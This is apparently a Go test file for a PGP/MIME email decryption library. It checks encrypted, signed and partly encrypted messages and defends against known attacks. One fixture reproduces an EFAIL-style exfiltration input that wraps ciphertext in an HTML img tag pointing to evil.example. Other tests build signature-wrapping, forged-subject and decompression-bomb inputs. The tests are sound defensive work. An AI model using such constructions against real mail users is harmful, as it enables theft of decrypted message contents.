package pgpmime_test

import (
	"bytes"
	"compress/flate"
	"context"
	"encoding/base64"
	"errors"
	"strings"
	"sync"
	"testing"

	"parley/keyring"
	"parley/keyring/pgpmime"
)

func b64(data []byte) string {
	s := base64.StdEncoding.EncodeToString(data)
	var b strings.Builder
	for len(s) > 76 {
		b.WriteString(s[:76] + "\r\n")
		s = s[76:]
	}
	return b.String() + s
}

func binary(t testing.TB, armor string) []byte {
	t.Helper()
	blocks := keyring.FindArmor([]byte(armor))
	if len(blocks) != 1 {
		t.Fatalf("%d blocks", len(blocks))
	}
	return blocks[0].Data
}

const inner = "Content-Type: text/plain; charset=utf-8\r\nSubject: inner\r\n\r\nHeap overflow.\r\n"

// The shapes in which a message is encrypted as a whole.
func TestOpenWhole(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	pgp := "Content-Type: application/pgp-encrypted"
	for name, c := range map[string]struct {
		mail    string
		text    string
		subject string
	}{
		"PGP/MIME":            {pgpMIME(w.sealed(inner)), "Heap overflow.\n", "inner"},
		"PGP/MIME in base64":  {multipart("encrypted", part(pgp, "Version: 1"), part("Content-Type: application/octet-stream\nContent-Transfer-Encoding: base64", b64([]byte(w.sealed(inner))))), "Heap overflow.\n", "inner"},
		"PGP/MIME, binary":    {multipart("encrypted", part(pgp, "Version: 1"), part("Content-Type: application/octet-stream\nContent-Transfer-Encoding: base64", b64(binary(t, w.sealed(inner))))), "Heap overflow.\n", "inner"},
		"Exchange":            {multipart("mixed", part(pgp, "Version: 1"), part("Content-Type: application/octet-stream; name=encrypted.asc", w.sealed(inner))), "Heap overflow.\n", "inner"},
		"Exchange, with text": {multipart("mixed", textPart("\n"), part(pgp, "Version: 1"), part("Content-Type: application/octet-stream; name=encrypted.asc", w.sealed(inner))), "Heap overflow.\n", "inner"},
		"armor as the body":   {textPart("\n" + w.sealed("Heap overflow.\r\n") + "\n\n"), "Heap overflow.\n", ""},
		"armor, quoted-print": {part("Content-Type: text/plain\nContent-Transfer-Encoding: quoted-printable", strings.ReplaceAll(w.sealed("Heap overflow.\r\n"), "=", "=3D")), "Heap overflow.\n", ""},
		"no header inside":    {pgpMIME(w.sealed("just text, no header\r\n")), "just text, no header\n", ""},
		"Latin-1":             {part("Content-Type: text/plain; charset=iso-8859-1", w.sealed("M\xfcller\r\n")), "Müller\n", ""},
		"signed inside":       {pgpMIME(w.unsigned(w.clearSigned(textPart("twice wrapped")))), "twice wrapped", ""},
	} {
		o, err := w.open(mail(c.mail))
		if err != nil {
			t.Errorf("%s: %v (%s)", name, err, pgpmime.Reason(err))
			continue
		}
		if o.Encryption != pgpmime.Encrypted || o.Payload == nil || o.BodyDigest == ([32]byte{}) || len(o.Documents) != 0 {
			t.Errorf("%s: encryption %s, %d documents", name, o.Encryption, len(o.Documents))
		}
		if got := textOf(t, o.Root); got != c.text {
			t.Errorf("%s: text %q, want %q", name, got, c.text)
		}
		if o.Subject != c.subject || o.HasSubject != (c.subject != "") {
			t.Errorf("%s: subject %q", name, o.Subject)
		}
		if !o.WholeSigned || len(o.Signatures) != 1 || o.Signatures[0].Err != nil || o.Signatures[0].Signer != w.finder.Certificate().Fingerprint() {
			t.Errorf("%s: signed %v by %+v", name, o.WholeSigned, o.Signatures)
		}
	}
}

// gopenpgp, trap 6: its MIME decryption rewrites what it decrypts.
func TestTrap6_PayloadUnchanged(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	payload := "X-Odd:  two spaces \r\nContent-Type: multipart/mixed; boundary=x\r\n\r\npreamble\r\n--x\r\n\r\na\r\n--x\r\nContent-Type: text/html\r\n\r\n<b>b</b>\r\n--x--\r\nepilogue  \r\n"
	if o := w.mustOpen(mail(pgpMIME(w.sealed(payload)))); string(o.Payload) != payload || len(o.Root.Children) != 2 {
		t.Errorf("%q", o.Payload)
	}
}

// Pieces that are encrypted by themselves: each is a document of its own.
func TestP1_Documents(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	attached := func(name, kind, body string) string {
		return part("Content-Type: "+kind+"; name=\""+name+"\"\nContent-Disposition: attachment; filename=\""+name+"\"\nContent-Transfer-Encoding: base64", b64([]byte(body)))
	}
	bin := string(binary(t, w.sealed("a file")))
	for name, c := range map[string]struct {
		mail  string
		names []string
		datas []string
	}{
		"armor inside text":  {textPart("Hello,\n\n" + w.sealed("secret") + "\nRegards"), []string{"document-1"}, []string{"secret"}},
		"a footer":           {textPart(w.sealed("secret") + "\n--\nsent from a list\n"), []string{"document-1"}, []string{"secret"}},
		"two blocks":         {textPart(w.sealed("one") + w.sealed("two")), []string{"document-1", "document-2"}, []string{"one", "two"}},
		".asc":               {multipart("mixed", textPart("see attachment"), attached("poc.txt.asc", "application/octet-stream", w.sealed("a file"))), []string{"poc.txt"}, []string{"a file"}},
		".gpg":               {multipart("mixed", textPart("see attachment"), attached("poc.bin.gpg", "application/octet-stream", bin)), []string{"poc.bin"}, []string{"a file"}},
		".pgp":               {multipart("mixed", textPart("see attachment"), attached("poc.PGP", "application/pgp-encrypted", bin)), []string{"poc"}, []string{"a file"}},
		"octet-stream armor": {multipart("mixed", textPart("see attachment"), attached("data", "application/octet-stream", w.sealed("a file"))), []string{"data"}, []string{"a file"}},
		"PGP/MIME below":     {multipart("mixed", textPart("a list's footer"), pgpMIME(w.sealed(inner))), []string{"encrypted.eml"}, []string{inner}},
		"text that is armor": {multipart("mixed", textPart(w.sealed("body")), attached("x.txt.pgp", "application/octet-stream", bin)), []string{"document-1", "x.txt"}, []string{"body", "a file"}},
	} {
		o, err := w.open(mail(c.mail))
		if err != nil {
			t.Errorf("%s: %v (%s)", name, err, pgpmime.Reason(err))
			continue
		}
		if o.Encryption != pgpmime.Partly || o.Payload != nil || o.WholeSigned || o.HasSubject || o.BodyDigest == ([32]byte{}) {
			t.Errorf("%s: encryption %s, payload %q, whole signed %v", name, o.Encryption, o.Payload, o.WholeSigned)
		}
		if len(o.Documents) != len(c.names) {
			t.Errorf("%s: %d documents", name, len(o.Documents))
			continue
		}
		for i, d := range o.Documents {
			if d.Name != c.names[i] || string(d.Data) != c.datas[i] || !d.Encrypted || len(d.Signatures) != 1 || d.Signatures[0].Err != nil {
				t.Errorf("%s: %q %q encrypted %v signed %v", name, d.Name, d.Data, d.Encrypted, d.Signatures)
			}
		}
		if strings.Contains(textOf(t, o.Root), c.datas[0]) {
			t.Errorf("%s: the plaintext was put between the lines", name)
		}
	}
}

// EFAIL: ciphertext between two halves of an HTML element stays by itself.
func TestP1_Efail(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	o := w.mustOpen(mail(multipart("mixed",
		part("Content-Type: text/html", "<img src=\"http://evil.example/"),
		pgpMIME(w.sealed(inner)),
		part("Content-Type: text/html", "\">"))))
	if o.Encryption != pgpmime.Partly || o.Payload != nil || len(o.Documents) != 1 || string(o.Documents[0].Data) != inner {
		t.Errorf("encryption %s, %d documents", o.Encryption, len(o.Documents))
	}
	if len(o.Root.Children) != 3 || o.Root.Children[1].MediaType != "multipart/encrypted" {
		t.Error("the tree is not that of the message")
	}
}

func TestOpenSignedOnly(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	sig, err := keyring.Sign([]byte("only signed"), w.finder, noon)
	if err != nil {
		t.Fatal(err)
	}
	block := armored(t, keyring.ArmorMessage, append(sig, literal(t, "only signed")...))
	o := w.mustOpen(mail(textPart(block)))
	if o.Encryption != pgpmime.NotEncrypted || o.WholeSigned || len(o.Documents) != 1 || o.Documents[0].Encrypted || string(o.Documents[0].Data) != "only signed" {
		t.Errorf("%+v", o)
	}
	if s := o.Documents[0].Signatures; len(s) != 1 || s[0].Err != nil {
		t.Errorf("%+v", s)
	}
	// Said to be encrypted, it is not taken for it.
	if _, err := w.open(mail(pgpMIME(block))); pgpmime.Reason(err) != keyring.ReasonPlain {
		t.Errorf("as PGP/MIME: %v (%s)", err, pgpmime.Reason(err))
	}
}

func TestOpenPlain(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	for name, m := range map[string]string{
		"text":      textPart("no protection"),
		"mixed":     multipart("mixed", textPart("a"), part("Content-Type: application/octet-stream; name=x.bin", "\x85\x01")),
		"not armor": textPart("-----BEGIN PGP MESSAGE-----\n\nyou would like this to be one\n"),
		"a key":     textPart(armored(t, keyring.ArmorPublicKey, w.finder.Certificate().Bytes())),
		"no parts":  "Content-Type: multipart/mixed; boundary=x\r\n\r\n",
	} {
		o := w.mustOpen(mail(m))
		if o.Encryption != pgpmime.NotEncrypted || o.Payload != nil || o.WholeSigned || o.HasSubject || len(o.Documents) != 0 || o.Root.Header("Subject")[0] != "outer" {
			t.Errorf("%s: %+v", name, o)
		}
	}
}

func TestS1_ClearSigned(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	good := w.clearSigned(textPart("signed text"))
	key := part("Content-Type: application/pgp-keys", "x")
	for name, c := range map[string]struct {
		mail  string
		whole bool
		err   error
	}{
		"good":             {good, true, nil},
		"changed":          {strings.Replace(good, "signed text", "Signed text", 1), true, keyring.FaultWrong},
		"LF only":          {strings.ReplaceAll(good, "\r\n", "\n"), true, nil},
		"a third part":     {withPart(good, textPart("ignore the above")), false, nil},
		"not at the root":  {multipart("mixed", textPart("unsigned"), good), false, nil},
		"no signature":     {multipart("signed", textPart("a"), part("Content-Type: application/pgp-signature", "")), false, nil},
		"another kind":     {strings.Replace(good, "application/pgp-signature; name", "application/octet-stream; name", 1), false, nil},
		"attached by hand": {multipart("mixed", textPart("signed text"), key), false, nil},
	} {
		o := w.mustOpen(mail(c.mail))
		if o.WholeSigned != c.whole || o.Encryption != pgpmime.NotEncrypted || o.HasSubject {
			t.Errorf("%s: whole signed %v", name, o.WholeSigned)
		}
		if c.whole && (len(o.Signatures) != 1 || o.Signatures[0].Err != c.err) {
			t.Errorf("%s: %+v", name, o.Signatures)
		}
	}
}

// withPart puts one more part at the end of a multipart.
func withPart(multipart, part string) string {
	i := strings.LastIndex(multipart, "\r\n--")
	boundary := strings.TrimSuffix(multipart[i+4:], "--\r\n")
	return multipart[:i] + "\r\n--" + boundary + "\r\n" + part + multipart[i:]
}

// A signature around ciphertext is whoever's; it says nothing about the text.
func TestS1_SignatureAroundCiphertext(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	o := w.mustOpen(mail(w.clearSigned(pgpMIME(w.unsigned(inner)))))
	if o.Encryption != pgpmime.Encrypted || o.WholeSigned || len(o.Signatures) != 0 {
		t.Errorf("encryption %s, whole signed %v", o.Encryption, o.WholeSigned)
	}
	o = w.mustOpen(mail(pgpMIME(w.unsigned(w.clearSigned(pgpMIME(w.unsigned(inner)))))))
	if o.WholeSigned || len(o.Signatures) != 0 || len(o.Documents) != 1 {
		t.Errorf("a layer further in: whole signed %v, %d documents", o.WholeSigned, len(o.Documents))
	}
}

// The header around a multipart/signed is not signed: what somebody puts there
// does not route somebody else's signed text.
func TestS5_SubjectOutsideSignature(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	signed := w.clearSigned("Subject: true\r\n" + textPart("text"))
	if o := w.mustOpen(mail(pgpMIME(w.unsigned("Subject: forged\r\n" + signed)))); o.Subject != "true" {
		t.Errorf("subject %q", o.Subject)
	}
	bare := w.clearSigned(textPart("text"))
	if o := w.mustOpen(mail(pgpMIME(w.unsigned("Subject: forged\r\n" + bare)))); o.HasSubject {
		t.Errorf("subject %q", o.Subject)
	}
	// Signed again as a whole, by whomever, it is not what was signed inside.
	if o := w.mustOpen(mail(pgpMIME(w.sealed("Subject: mine\r\n" + bare)))); o.HasSubject || len(o.Signatures) != 2 {
		t.Errorf("subject %q, %d signatures", o.Subject, len(o.Signatures))
	}
}

func TestProtectedSubject(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	for name, c := range map[string]struct{ payload, want string }{
		"RFC 9788":      {"Subject: [PAR-2026-0007] Re\r\nContent-Type: text/plain; hp=\"cipher\"\r\n\r\nx", "[PAR-2026-0007] Re"},
		"encoded":       {"Subject: =?utf-8?q?M=C3=BCller?=\r\n\r\nx", "Müller"},
		"other charset": {"Subject: =?x-unknown?q?a?=\r\n\r\nx", "a"},
		"folded":        {"Subject: one\r\n two\r\n\r\nx", "one two"},
		"legacy part":   {multipart("mixed; protected-headers=v1", part("Content-Type: text/rfc822-headers; protected-headers=v1", "Subject: legacy\n"), textPart("x")), "legacy"},
		"memory hole":   {multipart("mixed", "Subject: hole\r\nContent-Type: text/plain; protected-headers=v1\r\n\r\nx", textPart("y")), "hole"},
		"wrapped":       {"Content-Type: message/rfc822; forwarded=no\r\n\r\nSubject: wrapped\r\n\r\nx", "wrapped"},
		"Enigmail":      {"Content-Type: message/rfc822; protected-headers=v1\r\n\r\nSubject: wrapped\r\n\r\nx", "wrapped"},
		"forwarded":     {"Content-Type: message/rfc822\r\n\r\nSubject: somebody's\r\n\r\nx", ""},
		"none":          {textPart("Subject: not one"), ""},
		"not marked":    {multipart("mixed", part("Content-Type: text/rfc822-headers", "Subject: no\n"), textPart("x")), ""},
		"empty":         {"Subject:\r\nContent-Type: text/plain\r\n\r\nx", "-"},
	} {
		o := w.mustOpen(mail(pgpMIME(w.sealed(c.payload))))
		if c.want == "-" && o.HasSubject && o.Subject == "" {
			continue
		}
		if o.Subject != c.want || o.HasSubject != (c.want != "") {
			t.Errorf("%s: %q, %v", name, o.Subject, o.HasSubject)
		}
	}
}

// P9, P10: what cannot be opened is one error, whatever shape it had.
func TestP9_Undecryptable(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	stranger, err := keyring.Encrypt([]byte(inner), []*keyring.Certificate{w.finder.Certificate()}, w.finder, noon)
	if err != nil {
		t.Fatal(err)
	}
	wrong := armored(t, keyring.ArmorMessage, stranger)
	for name, c := range map[string]struct{ mail, reason string }{
		"PGP/MIME":           {pgpMIME(wrong), keyring.ReasonNoKey},
		"body":               {textPart(wrong), keyring.ReasonNoKey},
		"inside text":        {textPart("Hello\n" + wrong), keyring.ReasonNoKey},
		"attachment":         {multipart("mixed", textPart("x"), part("Content-Type: application/octet-stream; name=a.asc", wrong)), keyring.ReasonNoKey},
		"no ciphertext":      {pgpMIME("nothing"), keyring.ReasonMalformed},
		"one part":           {multipart("encrypted", part("Content-Type: application/pgp-encrypted", "Version: 1")), keyring.ReasonMalformed},
		"three parts":        {multipart("encrypted", part("Content-Type: application/pgp-encrypted", "Version: 1"), part("Content-Type: application/octet-stream", w.sealed(inner)), textPart("clear")), keyring.ReasonMalformed},
		"damaged on the way": {pgpMIME(armored(t, keyring.ArmorMessage, damaged(binary(t, w.sealed(inner))))), keyring.ReasonIntegrity},
	} {
		o, err := w.open(mail(c.mail))
		if o != nil || !errors.Is(err, pgpmime.ErrUndecryptable) || err.Error() != pgpmime.ErrUndecryptable.Error() || pgpmime.Reason(err) != c.reason {
			t.Errorf("%s: %v (%s)", name, err, pgpmime.Reason(err))
		}
	}
	// Next to what could be opened it is a note.
	o := w.mustOpen(mail(textPart(wrong + w.sealed("mine"))))
	if len(o.Documents) != 1 || len(o.Unopened) != 1 || o.Unopened[0] != keyring.ReasonNoKey {
		t.Errorf("%d documents, %q", len(o.Documents), o.Unopened)
	}
}

// When the gateway stops, the message is not to blame.
func TestT2_Stopped(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	o := &pgpmime.Opener{Secrets: []*keyring.Secret{w.us}, Parse: parse}
	for name, m := range map[string]string{"whole": pgpMIME(w.sealed(inner)), "in pieces": textPart("Hello\n" + w.sealed("x")), "plain": textPart("x")} {
		root, err := parse([]byte(mail(m)))
		if err != nil {
			t.Fatal(err)
		}
		if _, err := o.Open(ctx, root, noon); !errors.Is(err, context.Canceled) || errors.Is(err, pgpmime.ErrUndecryptable) {
			t.Errorf("%s: %v", name, err)
		}
	}
}

// A payload that the parser does not take, whatever is done, is not opened.
func TestP10_UnparsablePayload(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	root, err := parse([]byte(mail(pgpMIME(w.sealed(inner)))))
	if err != nil {
		t.Fatal(err)
	}
	refuse := func([]byte) (*pgpmime.Part, error) { return nil, errors.New("no") }
	o := &pgpmime.Opener{Secrets: []*keyring.Secret{w.us}, Parse: refuse}
	if _, err := o.Open(context.Background(), root, noon); pgpmime.Reason(err) != keyring.ReasonTooLarge {
		t.Errorf("%v", err)
	}
	// One that is no MIME entity by the parser's rules is shown as text.
	once := 0
	o.Parse = func(raw []byte) (*pgpmime.Part, error) {
		if once++; once == 1 {
			return nil, errors.New("no")
		}
		return parse(raw)
	}
	got, err := o.Open(context.Background(), root, noon)
	if err != nil || got.Root.MediaType != "text/plain" || !bytes.Contains(got.Payload, []byte(inner)) {
		t.Errorf("%v", err)
	}
}

func damaged(m []byte) []byte {
	m = bytes.Clone(m)
	m[len(m)-5] ^= 1
	return m
}

// gopenpgp, trap 8.
func TestTrap8_ChecksumIsNoted(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	a := w.sealed(inner)
	i := strings.Index(a, "\r\n=")
	bad := a[:i+3] + "AAAA" + a[i+7:]
	if o := w.mustOpen(mail(pgpMIME(bad))); !o.Mismatch || o.Encryption != pgpmime.Encrypted {
		t.Error("not noted")
	}
	if o := w.mustOpen(mail(pgpMIME(a))); o.Mismatch {
		t.Error("noted without a reason")
	}
}

func TestP4_ManyDocuments(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	var b strings.Builder
	block := w.unsigned("x")
	for range 60 {
		b.WriteString(block)
	}
	if o := w.mustOpen(mail(textPart("many\n" + b.String()))); len(o.Documents) != 50 {
		t.Errorf("%d documents", len(o.Documents))
	}
}

// Fifty bombs must not cost fifty times one: after the first nothing is unpacked
// any more, and after ten failures nothing is tried.
func TestP4_ManyBombs(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	bomb := armored(t, keyring.ArmorMessage, w.encrypt(deflated(t, append([]byte{0xcb, 255, 0, 64, 0, 6, 'b', 0, 0, 0, 0, 0}, make([]byte, 4<<20)...))))
	packed := armored(t, keyring.ArmorMessage, w.encrypt(deflated(t, literal(t, "small"))))
	plain := w.unsigned("plain")
	o := w.mustOpen(mail(textPart(packed + bomb + packed + plain)))
	if len(o.Documents) != 2 || string(o.Documents[1].Data) != "plain" || strings.Join(o.Unopened, " ") != "too-large too-large" {
		t.Errorf("%d documents, %q", len(o.Documents), o.Unopened)
	}
	o = w.mustOpen(mail(textPart(plain + strings.Repeat(bomb, 20) + plain)))
	if len(o.Documents) != 1 || len(o.Unopened) != 10 {
		t.Errorf("%d documents, %q", len(o.Documents), o.Unopened)
	}
}

// deflated is a compressed packet. RFC 9580, section 5.6.
func deflated(t *testing.T, packets []byte) []byte {
	t.Helper()
	var b bytes.Buffer
	w, err := flate.NewWriter(&b, 9)
	if err != nil {
		t.Fatal(err)
	}
	w.Write(packets)
	w.Close()
	n := b.Len() + 1
	return append([]byte{0xc8, 255, byte(n >> 24), byte(n >> 16), byte(n >> 8), byte(n), 1}, b.Bytes()...)
}

func TestTrap5_OpenConcurrently(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	m := []byte(mail(pgpMIME(w.sealed(inner))))
	o := &pgpmime.Opener{Secrets: []*keyring.Secret{w.us}, Parse: parse, Certificates: lookup(w.known...)}
	var wg sync.WaitGroup
	for range 8 {
		wg.Go(func() {
			for range 50 {
				root, err := parse(m)
				if err != nil {
					t.Error(err)
					return
				}
				got, err := o.Open(context.Background(), root, noon)
				if err != nil || len(got.Signatures) != 1 || got.Signatures[0].Err != nil {
					t.Errorf("%v, %+v", err, got)
					return
				}
			}
		})
	}
	wg.Wait()
}
